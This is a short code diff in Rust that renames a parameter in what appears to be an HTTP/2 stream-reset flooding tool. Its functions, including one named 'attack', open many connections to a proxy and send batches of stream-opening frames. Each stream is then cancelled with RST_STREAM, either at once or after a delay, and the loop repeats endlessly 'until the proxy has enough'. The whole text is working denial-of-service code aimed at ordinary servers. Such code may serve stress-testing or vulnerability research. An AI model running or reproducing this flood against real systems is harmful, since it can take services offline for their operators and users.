@@ -31,10 +31,10 @@ const LAST_STREAM: u32 = 0x7fff_0000;
 pub(super) async fn reset(dialer: Rc<Dialer>, tally: Rc<Tally>, connections: usize) {
     for index in 0..connections {
         let (dialer, tally) = (Rc::clone(&dialer), Rc::clone(&tally));
-        let patience = (index % 2 == 1).then_some(UNDER_WAY);
+        let wait = (index % 2 == 1).then_some(UNDER_WAY);
         spawn_local(async move {
             loop {
-                if attack(&dialer, &tally, patience).await.is_err() {
+                if attack(&dialer, &tally, wait).await.is_err() {
                     sleep(PAUSE).await;
                 }
             }
@@ -45,11 +45,7 @@ pub(super) async fn reset(dialer: Rc<Dialer>, tally: Rc<Tally>, connections: usi
 }
 
 /// As fast as it can, until the proxy has enough.
-async fn attack(
-    dialer: &Dialer,
-    tally: &Rc<Tally>,
-    patience: Option<Duration>,
-) -> Result<(), Failure> {
+async fn attack(dialer: &Dialer, tally: &Rc<Tally>, wait: Option<Duration>) -> Result<(), Failure> {
     let Connection { reader, mut writer } = match Connection::open(dialer, 65_535).await {
         Ok(connection) => connection,
         Err(error) => {
@@ -62,7 +58,7 @@ async fn attack(
     let block = frames::get(dialer, 1024);
     let mut first = 1;
     while first < LAST_STREAM && !reading.is_finished() {
-        batch(&mut writer, tally, &block, first, patience).await?;
+        batch(&mut writer, tally, &block, first, wait).await?;
         first += 2 * BATCH;
         tokio::task::yield_now().await;
     }
@@ -75,7 +71,7 @@ async fn batch(
     tally: &Tally,
     block: &[u8],
     first: u32,
-    patience: Option<Duration>,
+    wait: Option<Duration>,
 ) -> Result<(), Failure> {
     let mut out = Vec::new();
     let identifiers = (0..BATCH).map(|index| first + 2 * index);
@@ -88,13 +84,13 @@ async fn batch(
             identifier,
             block,
         );
-        if patience.is_none() {
+        if wait.is_none() {
             frames::frame(&mut out, RST_STREAM, 0, identifier, &CANCEL);
         }
     }
-    if let Some(patience) = patience {
+    if let Some(wait) = wait {
         frames::send(writer, &out).await?;
-        sleep(patience).await;
+        sleep(wait).await;
         out.clear();
         for identifier in identifiers {
             frames::frame(&mut out, RST_STREAM, 0, identifier, &CANCEL);
